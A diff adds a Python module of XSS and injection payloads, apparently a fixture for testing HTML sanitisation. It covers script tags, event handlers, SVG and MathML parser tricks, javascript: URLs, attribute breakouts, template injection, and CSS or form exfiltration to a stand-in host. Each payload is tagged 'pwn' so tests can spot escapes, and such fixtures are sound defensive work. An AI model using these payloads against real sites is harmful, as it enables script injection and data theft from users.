@@ -1,0 +1,125 @@
+"""Texts that try to become more than text, each short enough to be packed with others.
+
+Every element and attribute that a page could make of one carries the name `pwn`, and every script
+calls `pwn()`: whoever looks for that name on a page finds what was taken for markup.
+"""
+
+SCRIPTS = [
+    "<script pwn>pwn()</script>",
+    "</script><script pwn>pwn()</script>",
+    "<ScRiPt pwn>pwn()</sCrIpT>",
+    "<script pwn src=//pwn.test/x.js></script>",
+    "<script pwn src=data:,pwn()></script>",
+    "<script pwn type=module>import'//pwn.test/x'</script>",
+    "<\u200bscript pwn>pwn()</script>",
+    "＜script pwn＞pwn()＜/script＞",
+]
+HANDLERS = [
+    "<img pwn src=x onerror=pwn()>",
+    "<img/pwn/src=x/onerror=pwn()//",
+    "<body pwn onload=pwn()>",
+    "<details pwn open ontoggle=pwn()>",
+    "<video pwn><source onerror=pwn()></video>",
+    "<audio pwn src=x onerror=pwn()>",
+    "<input pwn onfocus=pwn() autofocus>",
+    "<select pwn onfocus=pwn() autofocus>",
+    "<marquee pwn onstart=pwn()>",
+    "<xss pwn style=animation-name:x onanimationstart=pwn()>",
+    "<p pwn onpointerenter=pwn() style=padding:99em>x",
+]
+FOREIGN_TONGUES = [
+    "<svg pwn onload=pwn()>",
+    "<svg pwn><script>pwn()</script></svg>",
+    "<svg pwn><animate onbegin=pwn() attributeName=x>",
+    "<svg pwn><a href=javascript:pwn()><text>x</text></a>",
+    "<svg pwn><use href=data:image/svg+xml,pwn#x>",
+    "<svg pwn><image href=//pwn.test/x.svg>",
+    "<math pwn><mi href=javascript:pwn()>x</mi></math>",
+    "<math pwn><mtext><table><mglyph><style><img pwn>",
+    "<noscript pwn><p title='</noscript><img pwn>'>",
+    "<svg pwn></p><style><g title='</style><img pwn>'>",
+    "<form pwn><math><mtext></form><form><mglyph>",
+    "<!--><img pwn src=x onerror=pwn()>-->",
+    "<?xml pwn?><![CDATA[<img pwn>]]>",
+]
+ADDRESSES = [
+    "<a pwn href=javascript:pwn()>x</a>",
+    '<a pwn href="java&#9;script:pwn()">x</a>',
+    "<a pwn href=data:text/html,<script>pwn()</script>>x",
+    "javascript:pwn()",
+    "JaVaScRiPt&colon;pwn()",
+    "data:text/html,<script pwn>pwn()</script>",
+    "//pwn.test/x",
+]
+BREAKOUTS = [
+    '" pwn onfocus=pwn() autofocus x="',
+    "' pwn onfocus=pwn() autofocus x='",
+    "` pwn onfocus=pwn() autofocus x=`",
+    "x pwn onfocus=pwn() autofocus x=",
+    '"><img pwn src=x onerror=pwn()>',
+    "'><img pwn src=x onerror=pwn()>",
+    "--><img pwn src=x onerror=pwn()><!--",
+    "]]><img pwn src=x onerror=pwn()>",
+    "</title><img pwn src=x onerror=pwn()>",
+    "</textarea><img pwn src=x onerror=pwn()>",
+    "</option></select><img pwn src=x onerror=pwn()>",
+    "</style><img pwn src=x onerror=pwn()>",
+    "</template><img pwn src=x onerror=pwn()>",
+    "</td></tr></table><b pwn>x",
+    "<plaintext pwn>",
+]
+LANGUAGES_OF_CODE = [
+    "${pwn()}",
+    "`-pwn()-`",
+    "{{7*7}}{{constructor.constructor('pwn()')()}}",
+    "{{ request.user.password }}{{ block.super }}",
+    "{% load pwn %}{% debug %}",
+    "%(pwn)s %s %",
+    '";pwn();//',
+    "';pwn();//",
+    '\\";pwn();//',
+    '"}];pwn();[{"x":"',
+    "\\u003cscript pwn\\u003epwn()\\u003c/script\\u003e",
+    "&lt;script pwn&gt;pwn()&lt;/script&gt;",
+    "&#60;img pwn src=x onerror=pwn()&#62;",
+    "%3Cscript%20pwn%3Epwn()%3C/script%3E",
+    "x\u2028pwn()//",
+    "x\u2029pwn()//",
+    "\u202e<b pwn>\u202c",
+]
+LOADING = [
+    "<iframe pwn src=javascript:pwn()></iframe>",
+    "<iframe pwn srcdoc='<script>pwn()</script>'></iframe>",
+    "<object pwn data=//pwn.test/x.swf></object>",
+    "<embed pwn src=//pwn.test/x.swf>",
+    "<base pwn href=//pwn.test/>",
+    "<meta pwn http-equiv=refresh content=0;//pwn.test>",
+    "<link pwn rel=stylesheet href=//pwn.test/x.css>",
+    "<link pwn rel=attachment href=file:///etc/passwd>",
+    "<style pwn>@import'//pwn.test/x.css'</style>",
+    "<style pwn>[value^=a]{background:url(//pwn.test)}",
+    "<p pwn style=background:url(//pwn.test/x)>",
+    "<form pwn action=//pwn.test><input name=x>",
+    "<button pwn formaction=//pwn.test>x</button>",
+]
+OUR_OWN_SCRIPTS = [
+    "<b pwn hx-get=//pwn.test hx-trigger=load>",
+    "<b pwn hx-on::load=pwn()>",
+    "<b pwn data-hx-on:click=pwn()>",
+    "<b pwn data-module=govuk-button>",
+    "<b pwn data-question=EDU-01 data-kind=text>",
+    "<b pwn id=autosave data-save=//pwn.test>",
+    "<a pwn id=csrfmiddlewaretoken name=body>",
+    "<img pwn name=getElementById>",
+    "<template pwn id=conflict-template><img pwn>",
+]
+PAYLOADS = [
+    *SCRIPTS,
+    *HANDLERS,
+    *FOREIGN_TONGUES,
+    *ADDRESSES,
+    *BREAKOUTS,
+    *LANGUAGES_OF_CODE,
+    *LOADING,
+    *OUR_OWN_SCRIPTS,
+]
